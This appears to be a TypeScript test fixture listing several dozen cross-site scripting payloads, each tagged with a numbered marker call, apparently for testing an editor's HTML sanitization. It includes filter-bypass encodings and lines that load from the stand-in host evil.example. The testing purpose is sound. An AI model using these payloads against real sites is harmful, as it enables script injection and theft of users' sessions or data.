// Sixty ways to inject a script. HIT stands for the call that reveals it.
const FORMS = [
  "<script>HIT</script>",
  "<ScRiPt/x>HIT</sCrIpT>",
  "<script src=data:,HIT></script>",
  "<script type=module>HIT</script>",
  '"><script>HIT</script>',
  "'><script>HIT</script>",
  "</script><script>HIT</script>",
  "</script><!--<script>HIT",
  "</title><script>HIT</script>",
  "</textarea><script>HIT</script>",
  "</style><script>HIT</script>",
  "--><script>HIT</script>",
  "<!--><script>HIT</script>",
  "]]><script>HIT</script>",
  "<img src=x onerror=HIT>",
  "<img/src=x/onerror=HIT>",
  '<IMG SRC=x ONERROR="HIT">',
  '"><img src=x onerror=HIT>',
  "'><img src=x onerror=HIT>",
  "</p></li></div><img src=x onerror=HIT>",
  "<svg onload=HIT>",
  "<svg/onload=HIT//",
  "<svg><script>HIT</script></svg>",
  "<svg><animate onbegin=HIT attributeName=x dur=1s>",
  '<svg><a href="javascript:HIT"><text y=9>x</text></a></svg>',
  '<math><mi xlink:href="javascript:HIT">x</mi></math>',
  "<body onload=HIT>",
  '<iframe src="javascript:parent.HIT"></iframe>',
  '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
  '<object data="javascript:HIT"></object>',
  '<embed src="javascript:HIT">',
  "<video><source onerror=HIT></video>",
  "<audio src=x onerror=HIT></audio>",
  "<details open ontoggle=HIT>x</details>",
  "<input autofocus onfocus=HIT>",
  "<select autofocus onfocus=HIT></select>",
  '<a href="javascript:HIT">x</a>',
  '<form action="javascript:HIT"><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:HIT">',
  '<link rel=stylesheet href="https://evil.example/">',
  "<style>*{display:none}</style>",
  '<style>@import "https://evil.example/";</style>',
  '<p style="background:url(https://evil.example/)">x</p>',
  '" autofocus onfocus="HIT" x="',
  "' autofocus onfocus='HIT' x='",
  "javascript:HIT",
  "JaVaScRiPt:HIT//",
  "data:text/html,<script>HIT</script>",
  '{{constructor.constructor("HIT")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the payload.
  "${HIT}",
  '";HIT;//',
  "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
  "&lt;script&gt;HIT&lt;/script&gt;",
  "%3Cscript%3EHIT%3C/script%3E",
  "＜script＞HIT＜/script＞",
  "\u202e<scr\u200bipt>HIT</scr\u200bipt>",
  '{"__proto__":{"x":"<script>HIT</script>"}}',
  "## <img src=x onerror=HIT>",
  '- [x](javascript:HIT) ![x](x" onerror="HIT)',
];

/** Further forms for rich texts of the editor. */
const RICH_FORMS = [
  '<table background="javascript:HIT"><tr onclick=HIT><td onmouseover=HIT>x</td></tr></table>',
  "<figure tabindex=0 autofocus onfocus=HIT><img src=x onerror=HIT></figure>",
  '<a data-embed=youtube data-embed-id=dQw4w9WgXcQ href="javascript:HIT" autofocus onfocus=HIT>x</a>',
];

export const PAYLOADS = FORMS.map((form, place) => form.replaceAll("HIT", `hit(${place})`));
export const RICH_PAYLOADS = RICH_FORMS.map((form, place) =>
  form.replaceAll("HIT", `hit(${FORMS.length + place})`),
);

/** All payloads in as few texts as fields of this length allow. */
export function encodedPayloads(most: number, separator = " "): string[] {
  const texts: string[] = [];
  for (const payload of PAYLOADS) {
    const longer = `${texts.at(-1)}${separator}${payload}`;
    if (texts.length > 0 && longer.length <= most) texts[texts.length - 1] = longer;
    else texts.push(payload.slice(0, most));
  }
  return texts;
}
